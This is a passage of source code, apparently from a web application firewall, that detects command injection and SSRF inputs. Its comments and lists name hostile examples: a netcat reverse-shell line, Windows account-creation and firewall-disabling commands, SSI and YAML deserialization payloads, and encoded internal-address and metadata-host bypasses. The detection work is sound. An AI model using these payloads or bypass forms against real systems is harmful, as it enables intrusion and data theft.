    // In an absolute path: the word (after a space, '=' or a quote) starts with '/'.
    let s = i;
    while (s > 0 && s > i - 64 && !isSpace(nb(s - 1)) && nb(s - 1) != 0x3d && nb(s - 1) != 0x27 && nb(s - 1) != 0x22) s--;
    if (nb(s) == 0x2f) return true;
  }
  return false;
}

function phpCode(): bool {
  for (let i = indexOf("<?", 0); i >= 0; i = indexOf("<?", i + 2)) {
    if (inFence(i)) continue;
    const c = nb(i + 2);
    if (!(startsAt(i + 2, "php") || c == 0x3d || isSpace(c))) continue;
    // The short echo tag prints an expression: <?= "test", <?=1?>, <?=$x?>.
    if (c == 0x3d) {
      let e = i + 3;
      while (e < normLen && e < i + 16 && isSpace(nb(e))) e++;
      const d = nb(e);
      if (d == 0x22 || d == 0x27 || d == 0x24 || d == 0x28 || isDigit(d) || isAlpha(d)) return true;
    }
    const end = i + 258 < normLen ? i + 258 : normLen;
    for (let k = i + 2; k < end; k++) {
      const d = nb(k);
      if (d == 0x28 || d == 0x24 || d == 0x60 || (d == 0x65 && startsAt(k, "echo "))) return true;
    }
  }
  return false;
}

function commandLine(): bool {
  if (fenced) return false; // documentation (and its blanked view would be skipped byte by byte)
  let v = 0;
  while (v < cmdLen && v < 64 && isSpace(cb(v))) v++;
  // "which nc": asking where a tool is, the first step of a command injection probe.
  if (cmdPrefixAt(v, "which ")) {
    let w = v + 6;
    while (w < cmdLen && cb(w) == 0x20) w++;
    return cmdWordAt(w) && blanksToEnd(cmdWordEnd);
  }
  // The shell named by its variable: ${SHELL} -c "echo hi", $SHELL -c id (the cmd view keeps '$').
  if (cb(v) == 0x24) {
    let w = v + 1;
    const brace = cb(w) == 0x7b;
    if (brace) w++;
    if (cmdPrefixAt(w, "shell") || cmdPrefixAt(w, "bash")) {
      w += cb(w) == 0x73 ? 5 : 4;
      if (brace) { if (cb(w) != 0x7d) return false; w++; }
      while (w < cmdLen && isSpace(cb(w))) w++;
      return cmdPrefixAt(w, "-c") && (w + 2 >= cmdLen || isSpace(cb(w + 2)));
    }
  }
  if (!cmdWordAt(v)) return false;
  let a = cmdWordEnd;
  // A command chained straight on (whoami;…, id|…, uname&&…).
  const n = cb(a);
  if (n == 0x3b || n == 0x7c || (n == 0x26 && cb(a + 1) == 0x26)) return true;
  if (a >= cmdLen || cb(a) != 0x20) return false;
  while (a < cmdLen && cb(a) == 0x20) a++;
  // The whole value is a short sleep (a blind probe's timer) or a download tool and one URL.
  if (probeArgument(cmdWordStart, cmdWordEnd, a)) return true;
  const c = cb(a), d = cb(a + 1);
  // An option (-l, --list, /all) or an absolute path after the tool; or words written into a file
  // ("echo TAG > /var/www/html/TAG.txt").
  if (!((c == 0x2d && (isAlpha(d) || (d == 0x2d && isAlpha(cb(a + 2))))) || (c == 0x2f && isAlpha(d)))) return shellArgumentsAt(cmdWordEnd) && redirectAfterWords(a);
  // The rest reads as arguments: no run of three plain words (a sentence).
  let words = 0;
  for (let k = a; k < cmdLen; ) {
    while (k < cmdLen && cb(k) == 0x20) k++;
    const s = k;
    let plain = true;
    while (k < cmdLen && !isSpace(cb(k))) { if (!isAlpha(cb(k))) plain = false; k++; }
    if (k == s) break;
    if (plain && k - s > 1) { if (++words >= 3) return false; } else words = 0;
  }
  return true;
}

function probeStart(): bool {
  if (normLen > 2048) return false;
  const i = skipBlanks(0);
  const c = nb(i);
  return (c == 0x73 && startsAt(i, "sleep ")) || (c == 0x77 && (startsAt(i, "which ") || startsAt(i, "wget "))) || (c == 0x63 && startsAt(i, "curl "));
}
// Windows administration through net, netsh and reg: "net user hacker P@ss /ADD", "net view", "netsh firewall
// set opmode disable", "reg add HKLM\…". For net, its subcommand then the value's end or a /SWITCH later
// ("net user growth slowed" is prose); netsh is no word; reg's subcommand is followed by a root key.
const NET_SUBCOMMANDS: StaticArray<string> = ["user", "users", "localgroup", "group", "view", "use", "share", "start", "stop", "session", "accounts", "config"];
const REG_SUBCOMMANDS: StaticArray<string> = ["add", "query", "delete", "save", "export", "import", "load", "copy"];
function windowsAdminCommand(s: i32, e: i32): bool {
  const net = cmdWordIs(s, e, "net") || cmdWordIs(s, e, "net1"), netsh = cmdWordIs(s, e, "netsh"), reg = cmdWordIs(s, e, "reg");
  if (!(net || netsh || reg)) return false;
  let a = e;
  while (a < cmdLen && cb(a) == 0x20) a++;
  let b = a;
  while (b < cmdLen && isAlpha(cb(b))) b++;
  if (b == a || !(b >= cmdLen || isSpace(cb(b)))) return false;
  if (netsh) return true;
  const list = net ? NET_SUBCOMMANDS : REG_SUBCOMMANDS;
  let known = false;
  for (let k = 0; k < list.length; k++) if (cmdWordIs(a, b, unchecked(list[k]))) { known = true; break; }
  if (!known) return false;
  if (reg) { while (b < cmdLen && cb(b) == 0x20) b++; return cmdPrefixAt(b, "hk"); }
  if (blanksToEnd(b)) return true;
  const end = b + 256 < cmdLen ? b + 256 : cmdLen;
  for (let k = b; k + 1 < end; k++) if (cb(k) == 0x2f && isSpace(cb(k - 1)) && isAlpha(cb(k + 1))) return true;
  return false;
}
function blanksToEnd(i: i32): bool {
  while (i < cmdLen && isSpace(cb(i))) i++;
  return i >= cmdLen;
}
function cmdPrefixAt(i: i32, w: string): bool {
  if (i + w.length > cmdLen) return false;
  for (let j = 0; j < w.length; j++) if (cb(i + j) != ch(w, j)) return false;
  return true;
}
function cmdWordIs(s: i32, e: i32, w: string): bool { return e - s == w.length && cmdPrefixAt(s, w); }
// The argument that makes a whole value a probe: "sleep 5" (1-3 digits, then the end), "wget http://x/y"
// and "curl https://x/y" (one URL, then the end).
function probeArgument(s: i32, e: i32, a: i32): bool {
  if (cmdWordIs(s, e, "sleep")) {
    let k = a;
    while (k < cmdLen && isDigit(cb(k))) k++;
    return k > a && k - a <= 3 && blanksToEnd(k);
  }
  if (cmdWordIs(s, e, "wget") || cmdWordIs(s, e, "curl")) {
    let k = a;
    while (k < cmdLen && !isSpace(cb(k))) k++;
    if (!blanksToEnd(k)) return false;
    if (cmdPrefixAt(a, "http://") || cmdPrefixAt(a, "https://") || cmdPrefixAt(a, "ftp://")) return true;
    // a host alone: curl c0ffee1234.oast.fun (names with a dot and a top-level domain of letters, not "curl 2.x")
    let dot = -1;
    for (let j = a; j < k; j++) {
      const c = cb(j);
      if (c == 0x2e) dot = j;
      else if (!(isAlpha(c) || isDigit(c) || c == 0x2d)) return false;
    }
    if (dot <= a || k - dot < 3) return false;
    for (let j = dot + 1; j < k; j++) if (!isAlpha(cb(j))) return false;
    return true;
  }
  return false;
}

// A server-side include directive, which a page that includes the value runs: <!--#exec cmd="ls" -->,
// <!--#include virtual="/etc/passwd" -->, <!--#echo var="DOCUMENT_ROOT" -->.
const SSI_DIRECTIVES: StaticArray<string> = ["exec", "include", "echo", "config", "printenv", "set", "fsize", "flastmod", "if", "elif"];
function ssiDirective(): bool {
  // (Blanks after '<' too: "< !--#exec cmd=…", written for filters that look for "<!--#".)
  for (let i = indexOf("!--#", 1); i >= 0; i = indexOf("!--#", i + 4)) {
    let b = i;
    while (b > 0 && b > i - 8 && isSpace(nb(b - 1))) b--;
    if (b == 0 || nb(b - 1) != 0x3c) continue;
    let e = i + 4;
    while (e < normLen && isAlpha(nb(e))) e++;
    if (!(isSpace(nb(e)) || nb(e) == 0x2d)) continue;
    for (let k = 0; k < SSI_DIRECTIVES.length; k++) if (wordEquals(i + 4, e, unchecked(SSI_DIRECTIVES[k]))) return true;
  }
  return false;
}
// A YAML tag that makes an unsafe loader build a language object (PyYAML's !!python/object/apply:os.system,
// Ruby's !ruby/object, SnakeYAML's !!javax.script.ScriptEngineManager): deserialization that runs code.
function yamlLanguageTag(): bool {
  for (let i = indexOf("!", 0); i >= 0; i = indexOf("!", i + 1)) {
    let t = i + 1;
    if (nb(t) == 0x21) t++;
    if (startsAt(t, "python/") || startsAt(t, "ruby/") || startsAt(t, "javax.") || startsAt(t, "java.") || startsAt(t, "com.sun.")) {
      if (inFence(i)) continue;
      // "!!" (or Ruby's single "!") where a YAML node starts: a tag, not "Hello!python/x" or "Wow!!python/ruby".
      const b = i > 0 ? nb(i - 1) : 0x20;
      if ((t == i + 2 || startsAt(t, "ruby/")) && (isSpace(b) || b == 0x5b || b == 0x7b || b == 0x3a || b == 0x2c || b == 0x2d)) return true;
    }
  }
  return false;
}

// After a separator, a shell keyword that opens or continues a compound command (if, while, until, then, do,
// else, elif) and its blanks: the index after them, or -1.
function shellKeywordEnd(i: i32): i32 {
  let e = i;
  while (e < cmdLen && e - i < 6 && (cb(e) | 0x20) - 0x61 < 26) e++;
  if (e == i || !isSpace(cb(e))) return -1;
  if (!(cmdWordIs(i, e, "if") || cmdWordIs(i, e, "then") || cmdWordIs(i, e, "do") || cmdWordIs(i, e, "else") || cmdWordIs(i, e, "elif") ||
        cmdWordIs(i, e, "while") || cmdWordIs(i, e, "until"))) return -1;
  while (e < cmdLen && isSpace(cb(e))) e++;
  return e;
}
// The test command at i: "[ " or "[[ ", an operator of test (-eq -ne -lt -le -gt -ge -z -n -f -d -e, = !=) inside,
// and its closing "]" within 128 bytes ("if [ 119 -eq $(printf '%d' …) ]").
function testBracketAt(i: i32): bool {
  if (cb(i) != 0x5b) return false;
  let k = i + 1;
  if (cb(k) == 0x5b) k++;
  if (!isSpace(cb(k))) return false;
  let op = false;
  for (let j = k; j < cmdLen && j < i + 128; j++) {
    const c = cb(j);
    if (c == 0x5d && isSpace(cb(j - 1))) return op;
    if (c == 0x2d && isSpace(cb(j - 1)) && isAlpha(cb(j + 1)) && (isSpace(cb(j + 2)) || (isAlpha(cb(j + 2)) && isSpace(cb(j + 3))))) op = true;
    if (c == 0x3d && isSpace(cb(j - 1)) && isSpace(cb(j + 1))) op = true;
  }
  return false;
}

function cmdiOnNormalized(): bool {
  // A bash function definition opening the value: the Shellshock prefix "() {".
  if ((present & (P_PAREN | P_BRACE)) == (P_PAREN | P_BRACE)) {
    let v = 0;
    while (v < normLen && v < 64 && isSpace(nb(v))) v++;
    if (nb(v) == 0x28 && nb(v + 1) == 0x29) { let b = v + 2; while (b < normLen && b < v + 64 && isSpace(nb(b))) b++; if (nb(b) == 0x7b) { lastRule = "cmdi:shellshock"; return true; } }
  }
  if ((present & (P_PAREN | P_QUOTE)) == (P_PAREN | P_QUOTE) || (present & (P_PAREN | P_SHELL)) == (P_PAREN | P_SHELL)) {
    if (execCallAt()) { lastRule = "cmdi:exec-call"; return true; }
  }
  if ((present & P_PAREN) != 0 && md5OutputProbe()) { lastRule = "cmdi:code-probe"; return true; }
  if ((present & (P_LT | P_BANG)) == (P_LT | P_BANG) && ssiDirective()) { lastRule = "cmdi:ssi-directive"; return true; }
  if ((present & (P_BANG | P_SLASH)) == (P_BANG | P_SLASH) && yamlLanguageTag()) { lastRule = "cmdi:yaml-deserialization"; return true; }
  if ((present & (P_BRACKET | P_SLASH)) == (P_BRACKET | P_SLASH) && bracketGlobPath()) { lastRule = "cmdi:glob-path"; return true; }
  const brace = (present & P_BRACE) != 0 && nb(0) == 0x7b;
  // "sleep 5", "which nc", "wget http://x/p": a probe with no shell byte (commandLine reads it).
  const probe = !(present & (P_SHELL | P_SPACE_DASH)) && probeStart();
  if (!(present & (P_SHELL | P_SPACE_DASH)) && !brace && !probe) return false;
  buildCmdView();
  if (probe) { if (commandLine()) { lastRule = "cmdi:command-line"; return true; } return false; }
  if ((present & P_BRACE) != 0 && braceExpansionCommand()) { lastRule = "cmdi:brace-expansion"; return true; }
  if (!(present & (P_SHELL | P_SPACE_DASH))) return false;
  if ((present & P_SPACE_DASH) && inlineCodeFlag()) { lastRule = "cmdi:inline-code"; return true; }
  // PHP code: an open tag (<?php, <?=, "<? ") with code after it, outside a markdown fence.
  if ((present & (P_QMARK | P_LT)) == (P_QMARK | P_LT) && phpCode()) { lastRule = "cmdi:php-code"; return true; }
  // A value that is itself a command line: a tool, then an option or an absolute path and no prose
  // ("nc -lvp 4444 -e /bin/sh", "netstat -an", "ls -l /tmp"; not "more -- I think so").
  if (commandLine()) { lastRule = "cmdi:command-line"; return true; }
  if ((present & P_HASH_AT_STAR) != 0 || (present & P_SHELL) != 0) { if (commentedProbe()) { lastRule = "cmdi:commented-probe"; return true; } }
  if (!(present & P_SHELL)) return false;
  let skipEnd = -1, noWordAt = -1;
  for (let i = 0; i < cmdLen; i++) {
    i = nextInSet(cmdBuf, i, cmdLen, SET_CMD);
    if (i >= cmdLen) break;
    const c = cb(i);
    let after = -1;
    if (c == 0x60 && markdownInlineCode(i)) continue;
    if (c == 0x3b || c == 0x0a || c == 0x60 || c == 0x1a) after = i + 1;       // ; newline ` and SUB (^Z, commix's)
    else if (c == 0x7c) after = cb(i + 1) == 0x7c ? i + 2 : i + 1;              // | ||
    else if (c == 0x26) after = cb(i + 1) == 0x26 ? i + 2 : i + 1;              // & &&
    else if (c == 0x24 && cb(i + 1) == 0x28) after = i + 2;                     // $(
    else if ((c == 0x3c || c == 0x3e) && cb(i + 1) == 0x28) after = i + 2;      // <( >(
    if (after < 0) continue;
    // A separator that also occurs in prose: a single '&', or ';' followed by a space.
    // A newline too: a line of a message may start with "find", "more", "type" or "head".
    const prosey = (c == 0x26 && cb(i + 1) != 0x26) || (c == 0x3b && isSpace(cb(i + 1))) || c == 0x0a;
    // Runs of separators and blanks ("\n\n\n…") must not rescan the same run and word from each separator
    // (that was quadratic: 8 KiB of newlines took a quarter of a second): a run skipped once ends where it
    // ended, and a position where no command word (or glob path) starts is not tried again.
    if (after < skipEnd) after = skipEnd;
    else { while (after < cmdLen && (isSpace(cb(after)) || cb(after) == 0x7b || cb(after) == 0x28)) after++; skipEnd = after; }
    if (after == noWordAt) continue;
    // Wildcards spelling a command path: ;/???/??t /???/p??s??
    if (cb(after) == 0x2f && globPathAt(after)) { lastRule = "cmdi:glob-path"; return true; }
    // A compound command's keyword: "if [ 6 -eq $L ]", "while [ … ]" run the test command; "then sleep 5",
    // "do id", "else …" run the command after them.
    const kw = shellKeywordEnd(after);
    if (kw > 0) {
      if (testBracketAt(kw)) { lastRule = "cmdi:shell-test"; return true; }
      if (cmdWordAt(kw) && (!prosey || shellArgumentsAt(cmdWordEnd))) { lastRule = "cmdi:separator-command"; return true; }
    }
    if (cmdWordAt(after)) {
      // Prose guard: "cats & dogs; id est the pets" is not a command: after a prose-like separator the
      // word must be followed by shell-looking arguments or the end.
      if (prosey && !shellArgumentsAt(cmdWordEnd) && !windowsAdminCommand(cmdWordStart, cmdWordEnd)) continue;
      lastRule = "cmdi:separator-command";
      return true;
    }
    noWordAt = after;
  }
  return false;
}

// A command whose line ends in a comment, as scanners probe (Nessus: `uname >q63592644 #`, `"del q85487167&rem `,
// `;del q13157688 #`): a listed or batch command at the value's start, then the line's end in " #" or "&rem"; and
// a quote or separator before the command or a '>' after it ("type your message #" is a line of prose).
function commentedProbe(): bool {
  let e = cmdLen;
  while (e > 0 && isSpace(cb(e - 1))) e--;
  let tail = -1;
  if (e >= 3 && cb(e - 1) == 0x23 && isSpace(cb(e - 2))) tail = e - 2;
  else if (e >= 5 && cb(e - 4) == 0x26 && cb(e - 3) == 0x72 && cb(e - 2) == 0x65 && cb(e - 1) == 0x6d) tail = e - 4; // &rem
  if (tail < 0) return false;
  let s = 0;
  while (s < tail && (isSpace(cb(s)) || cb(s) == 0x3b || cb(s) == 0x26 || cb(s) == 0x7c)) s++;
  const lead = s > 0 || nb(skipBlanks(0)) == 0x22 || nb(skipBlanks(0)) == 0x27;
  let w = s;
  while (w < tail && isWordByte(cb(w))) w++;
  if (w == s || !(cmdWordAt(s) || batchWordIn(s, w))) return false;
  if (lead) return true;
  for (let k = w; k < tail; k++) if (cb(k) == 0x3e) return true;
  return false;
}
function batchWordIn(s: i32, e: i32): bool {
  for (let k = 0; k < BATCH_COMMANDS.length; k++) if (cmdWordIs(s, e, unchecked(BATCH_COMMANDS[k]))) return true;
  return false;
}

// ---- SSRF -------------------------------------------------------------------------------------------------------

// Parses an IPv4 host in any inet_aton form (1-4 parts, decimal/octal/hex) over [s, e); returns the
// address as u64 or -1 when the text is not such a number.
const parts = new StaticArray<u64>(4);
function parseLooseIpv4(s: i32, e: i32): i64 {
  if (s >= e) return -1;
  let np = 0;
  let i = s;
  while (i < e) {
    if (np >= 4) return -1;
    let v: u64 = 0;
    let base: u64 = 10;
    let digits = 0;
    if (nb(i) == 0x30 && (nb(i + 1) == 0x78) && i + 1 < e) { base = 16; i += 2; }
    else if (nb(i) == 0x30 && i + 1 < e && isDigit(nb(i + 1))) { base = 8; i++; }
    while (i < e && nb(i) != 0x2e) {
      const c = nb(i);
      let d: u64;
      if (isDigit(c)) d = <u64>(c - 0x30);
      else if (base == 16 && isHex(c)) d = <u64>hexVal(c);
      else return -1;
      if (d >= base) return -1;
      v = v * base + d;
      if (v > 0xffffffff) return -1;
      digits++; i++;
    }
    if (digits == 0 && base != 16 && !(base == 8)) return -1;
    parts[np++] = v;
    if (i < e) { i++; if (i == e) return -1; }
  }
  if (np == 0) return -1;
  let addr: u64 = 0;
  if (np == 1) addr = parts[0];
  else if (np == 2) { if (parts[0] > 255 || parts[1] > 0xffffff) return -1; addr = (parts[0] << 24) | parts[1]; }
  else if (np == 3) { if (parts[0] > 255 || parts[1] > 255 || parts[2] > 0xffff) return -1; addr = (parts[0] << 24) | (parts[1] << 16) | parts[2]; }
  else { for (let k = 0; k < 4; k++) if (parts[k] > 255) return -1; addr = (parts[0] << 24) | (parts[1] << 16) | (parts[2] << 8) | parts[3]; }
  return <i64>addr;
}

function internalIpv4(a: u64): bool {
  const b0 = a >> 24;
  const b1 = (a >> 16) & 255;
  return b0 == 127 || b0 == 10 || b0 == 0 || (b0 == 169 && b1 == 254) || (b0 == 172 && b1 >= 16 && b1 <= 31) ||
    (b0 == 192 && b1 == 168) || (b0 == 192 && b1 == 0 && ((a >> 8) & 255) == 0) || (b0 == 100 && b1 >= 64 && b1 <= 127) || a == 0x64646464c8 || (b0 == 100 && b1 == 100);
}

// ::, ::1, 0:0:0:0:0:0:0:1, 0000::0001: every group zero but the last, which is 0 or 1.
function v6LoopbackOrUnspecified(s: i32, e: i32): bool {
  if (e - s < 2) return false;
  let last: u32 = 0, colons = 0;
  for (let k = s; k < e; k++) {
    const c = nb(k);
    if (c == 0x3a) { if (last != 0) return false; colons++; }
    else if (isHex(c)) last = last * 16 + <u32>hexVal(c);
    else return false;
    if (last > 0xffff) return false;
  }
  return colons >= 2 && last <= 1;
}

// Host names that reach the machine or its cloud's metadata: localhost, *.localhost, metadata names,
// *.internal, kubernetes.default, "0", digits.nip.io. By length first (a public host is compared with none).
function internalHostName(s: i32, he: i32): bool {
  const n = he - s;
  let named = false;
  if (n == 1) named = nb(s) == 0x30;
  else if (n == 6) named = wordEquals(s, he, "lvh.me");
  else if (n == 8) named = wordEquals(s, he, "metadata");
  else if (n == 9) named = wordEquals(s, he, "localhost");
  else if (n == 10) named = wordEquals(s, he, "localhost4") || wordEquals(s, he, "localhost6");
  else if (n == 12) named = wordEquals(s, he, "localtest.me") || wordEquals(s, he, "ip6-loopback");
  else if (n == 13) named = wordEquals(s, he, "instance-data") || wordEquals(s, he, "ip6-localhost");
  else if (n == 14) named = wordEquals(s, he, "ipv6-localhost");
  else if (n == 18) named = wordEquals(s, he, "kubernetes.default");
  else if (n == 19) named = wordEquals(s, he, "metadata.packet.net");
  else if (n == 21) named = wordEquals(s, he, "localhost.localdomain");
  else if (n == 23) named = wordEquals(s, he, "metadata.tencentyun.com") || wordEquals(s, he, "localhost4.localdomain4");
  else if (n == 24) named = wordEquals(s, he, "metadata.google.internal");
  return named || (n > 10 && nb(he - 10) == 0x2e && startsAt(he - 10, ".localhost")) || (n > 9 && nb(he - 9) == 0x2e && startsAt(he - 9, ".internal")) ||
    (nb(s) == 0x6b && startsAt(s, "kubernetes.default.svc")) || (n > 7 && isDigit(nb(s)) && startsAt(he - 7, ".nip.io"));
}
function ssrfHost(s: i32, e: i32): bool {
  if (s >= e) return false;
  // Strip a port.
  let he = e;
  if (nb(s) == 0x5b) { // [IPv6]
    let k = s + 1;
    while (k < e && nb(k) != 0x5d) k++;
    const v6s = s + 1;
    const v6e = k;
    // Loopback/unspecified, unique-local (fc/fd), link-local (fe80), metadata (fd00:ec2::254), v4-mapped.
    if (v6LoopbackOrUnspecified(v6s, v6e)) return true;
    const c0 = nb(v6s);
    const c1 = nb(v6s + 1);
    if (c0 == 0x66 && (c1 == 0x63 || c1 == 0x64)) return true;
    if (c0 == 0x66 && c1 == 0x65 && (nb(v6s + 2) == 0x38 || nb(v6s + 2) == 0x39 || nb(v6s + 2) == 0x61 || nb(v6s + 2) == 0x62)) return true;
    // IPv4-mapped in any spelling (::ffff:a.b.c.d, 0:0:0:0:0:ffff:a.b.c.d): judge the IPv4 part.
    if (v6e - v6s > 7 && indexOf("ffff:", v6s) >= 0 && indexOf("ffff:", v6s) < v6e) {
      let lastColon = v6e - 1;
      while (lastColon > v6s && nb(lastColon) != 0x3a) lastColon--;
      const a4 = parseLooseIpv4(lastColon + 1, v6e);
      if (a4 >= 0) return internalIpv4(<u64>a4);
      // ::ffff:a9fe:a9fe — the IPv4 address as two hex groups
      let mid = lastColon - 1;
      while (mid > v6s && nb(mid) != 0x3a) mid--;
      const hi = hexGroup(mid + 1, lastColon), lo = hexGroup(lastColon + 1, v6e);
      if (hi >= 0 && lo >= 0 && mid + 5 >= v6s && startsAt(mid - 4, "ffff")) return internalIpv4((<u64>hi << 16) | <u64>lo);
    }
    // IPv4-compatible (::127.0.0.1): judge the IPv4 part.
    if (startsAt(v6s, "::") && indexOf(".", v6s) >= 0 && indexOf(".", v6s) < v6e) {
      let lastColon = v6e - 1;
      while (lastColon > v6s && nb(lastColon) != 0x3a) lastColon--;
      const a4 = parseLooseIpv4(lastColon + 1, v6e);
      if (a4 >= 0 && lastColon == v6s + 1) return internalIpv4(<u64>a4);
    }
    if (startsAt(v6s, "::ffff:")) {
      const a = parseLooseIpv4(v6s + 7, v6e);
      if (a >= 0) return internalIpv4(<u64>a);
      return true;
    }
    return false;
  }
  for (let k = e - 1; k > s; k--) if (nb(k) == 0x3a) { he = k; break; } else if (!isDigit(nb(k))) break;
  while (he > s && nb(he - 1) == 0x2e) he--; // trailing dot
  if (internalHostName(s, he)) return true;
  if (embeddedInternalIpv4(s, he)) return true;
  const a = parseLooseIpv4(s, he);
  if (a >= 0) return internalIpv4(<u64>a);
  const o = overflowIpv4(s, he);
  return o >= 0 && internalIpv4(<u64>o);
}

// An internal address inside a longer host name: a wildcard DNS service's name that resolves to the address it
// spells (customer1.app.127.0.0.1.nip.io, 10.0.0.1.sslip.io), or a name ending in the address (example.com.127.0.0.1:
// a check that the host "starts with example.com" passes it). Four decimal labels, the last ones before the suffix.
const WILDCARD_DNS: StaticArray<string> = [".nip.io", ".xip.io", ".sslip.io", ".nip.direct", ".traefik.me"];
function embeddedInternalIpv4(s: i32, he: i32): bool {
  // A host ending in a digit, or in one of the suffixes (…io, …me, …direct): most hosts end in neither.
  const last = nb(he - 1);
  if (he - s < 9 || !(isDigit(last) || last == 0x6f || last == 0x65 || last == 0x74)) return false;
  let e = he;
  for (let k = 0; k < WILDCARD_DNS.length; k++) {
    const w = unchecked(WILDCARD_DNS[k]);
    if (he - s > w.length && startsAt(he - w.length, w)) { e = he - w.length; break; }
  }
  // The services also spell the address with dashes or in hex in the label before them (127-0-0-1.sslip.io,
  // app-10-0-0-1.nip.io, 7f000001.nip.io).
  if (e != he) {
    const a = dashedOrHexIpv4Before(s, e);
    if (a >= 0) return internalIpv4(<u64>a);
  }
  // The start of the last four labels before e, each 1-3 digits.
  let q = e, labels = 0;
  while (labels < 4) {
    let d = q;
    while (d > s && isDigit(nb(d - 1)) && q - d < 3) d--;
    if (d == q || (d > s && nb(d - 1) != 0x2e)) return false;
    labels++;
    if (labels < 4) { if (d <= s) return false; q = d - 1; } else q = d;
  }
  if (q <= s && e == he) return false; // the host is the address itself (judged by the caller)
  const a = parseLooseIpv4(q, e);
  return a >= 0 && internalIpv4(<u64>a);
}

// The IPv4 address ending the label before e: four groups of 1-3 digits joined by dashes, or eight hex digits,
// after the label's start or a dash; -1 when there is none.
function dashedOrHexIpv4Before(s: i32, e: i32): i64 {
  let ls = e;
  while (ls > s && nb(ls - 1) != 0x2e) ls--;
  let k = e;
  while (k > ls && isHex(nb(k - 1))) k--;
  if (e - k == 8 && (k == ls || nb(k - 1) == 0x2d)) {
    let h: u64 = 0;
    for (let q = k; q < e; q++) h = (h << 4) | <u64>hexVal(nb(q));
    return <i64>h;
  }
  let a: u64 = 0, q = e;
  for (let g = 0; g < 4; g++) {
    let d = q, v: u64 = 0, m: u64 = 1;
    while (d > ls && isDigit(nb(d - 1)) && q - d < 3) { d--; v += <u64>(nb(d) - 0x30) * m; m *= 10; }
    if (d == q || v > 255) return -1;
    a |= v << (<u64>(8 * g));
    if (g < 3) { if (d <= ls || nb(d - 1) != 0x2d) return -1; q = d - 1; }
    else if (d > ls && nb(d - 1) != 0x2d) return -1;
  }
  return <i64>a;
}

// One IPv6 group of 1-4 hex digits over [s, e), or -1.
function hexGroup(s: i32, e: i32): i32 {
  if (e <= s || e - s > 4) return -1;
  let v = 0;
  for (let k = s; k < e; k++) { const c = nb(k); if (!isHex(c)) return -1; v = v * 16 + <i32>hexVal(c); }
  return v;
}

// A numeric host too large for IPv4 that some parsers wrap: 425.510.425.510 (each part mod 256) is
// 169.254.169.254, 6425673729 (mod 2^32) is 127.0.0.1. Decimal parts only; -1 when not such a host.
function overflowIpv4(s: i32, e: i32): i64 {
  if (e - s > 40) return -1;
  // 0x41414141a9fea9fe: the low 32 bits
  if (e - s > 10 && nb(s) == 0x30 && nb(s + 1) == 0x78 && e - s <= 18) {
    let h: u64 = 0;
    for (let k = s + 2; k < e; k++) { const c = nb(k); if (!isHex(c)) return -1; h = (h << 4) | <u64>hexVal(c); }
    return <i64>(h & 0xffffffff);
  }
  let np = 0, digits = 0;
  let v: u64 = 0, addr: u64 = 0;
  for (let k = s; k <= e; k++) {
    const c = k < e ? nb(k) : 0x2e;
    if (isDigit(c)) { if (++digits > 20) return -1; v = v * 10 + <u64>(c - 0x30); continue; }
    if (c != 0x2e || digits == 0) return -1;
    parts[np & 3] = v; np++;
    if (np > 4) return -1;
    v = 0; digits = 0;
  }
  if (np == 1) addr = parts[0] & 0xffffffff;
  else if (np == 4) { for (let k = 0; k < 4; k++) addr = (addr << 8) | (parts[k] & 255); }
  else return -1;
  return <i64>addr;
}

// The first letter of the internal names that have no digit (localhost, host.docker.internal, gateway.…,
// kubernetes.default, ip6-loopback, ipv6-localhost, instance-data, metadata, lvh.me).
@inline function mayStartWithInternalHost(): bool {
  const c = nb(0);
  return c == 0x6c || c == 0x68 || c == 0x67 || c == 0x6b || c == 0x69 || c == 0x6d;
}
// "unix:/path|http://host/": Apache mod_proxy's socket syntax (CVE-2021-40438): a request target or parameter
// in that form sends the proxy to any backend the attacker names.
function unixSocketUrl(): bool {
  // Bytes before `clearTo` are known to hold no '|' and no blank: a later "unix:" resumes the search there, so
  // "unix:" repeated is read once.
  let clearTo = 0;
  for (let i = indexOf("unix:", 0); i >= 0; i = indexOf("unix:", i + 5)) {
    if (i > 0 && (isWordByte(nb(i - 1)) || nb(i - 1) == 0x2d)) continue;
    let j = i + 5 > clearTo ? i + 5 : clearTo;
    while (j < normLen && nb(j) != 0x7c && !isSpace(nb(j))) j++;
    clearTo = j;
    if (nb(j) != 0x7c) continue;
    let k = j + 1;
    while (k < normLen && isAlpha(nb(k))) k++;
    if (k > j + 1 && nb(k) == 0x3a) return true;
  }
  return false;
}
function ssrfOnNormalized(): bool {
  if (unixSocketUrl()) { lastRule = "ssrf:unix-socket"; return true; }
  let i = indexOf("://", 0);
  while (i > 0) {
    // Dangerous schemes on their own: gopher://, dict://, ldap:// (to internal) …
    let s = i;
    while (s > 0 && isAlpha(nb(s - 1))) s--;
    const sl = i - s;
    if (sl == 4 || sl == 6) {
      if (wordEquals(s, i, "gopher") || wordEquals(s, i, "dict") || wordEquals(s, i, "tftp")) { lastRule = "ssrf:scheme"; return true; }
      // sftp:// and netdoc:// as the value itself (a URL parameter); named in a sentence they are prose.
      if ((wordEquals(s, i, "sftp") || wordEquals(s, i, "netdoc")) && indexOf(" ", 0) < 0) { lastRule = "ssrf:scheme"; return true; }
    }
    const h = hostAfter(i + 3);
    if (ssrfHost(h, hostEnd)) { lastRule = "ssrf:internal-host"; return true; }
    // Parser confusion: http://good.com#@127.0.0.1/ or http://good.com?@127.0.0.1/ — some clients take the
    // host after the last '@' of the whole authority-looking run.
    // (Spaces too: "http://good.com:80 &@good.com:80# @127.0.0.1:22/" — each '@' within 64 bytes is tried.)
    const runEnd = hostEnd + 64 < normLen ? hostEnd + 64 : normLen;
    for (let at = hostEnd; at < runEnd && nb(at) != 0x2f; at++) {
      if (nb(at) != 0x40) continue;
      const h2 = hostAfter(at + 1);
      if (ssrfHost(h2, hostEnd)) { lastRule = "ssrf:parser-confusion"; return true; }
    }
    i = indexOf("://", i + 3);
  }
  // A URL without its slashes (http:127.0.0.1, https:/2852039166): WHATWG parsers read the host all the same.
  let v = 0;
  while (v < normLen && v < 64 && isSpace(nb(v))) v++;
  const sc = startsAt(v, "http:") ? v + 5 : startsAt(v, "https:") ? v + 6 : -1;
  if (sc > 0 && !((nb(sc) == 0x2f || nb(sc) == 0x5c) && (nb(sc + 1) == 0x2f || nb(sc + 1) == 0x5c))) {
    const h = hostAfter(nb(sc) == 0x2f || nb(sc) == 0x5c ? sc + 1 : sc);
    if (ssrfHost(h, hostEnd)) { lastRule = "ssrf:internal-host"; return true; }
  }
  // Protocol-relative //169.254.169.254/ at the start of the value.
  if (startsAt(0, "//")) {
    const h = hostAfter(2);
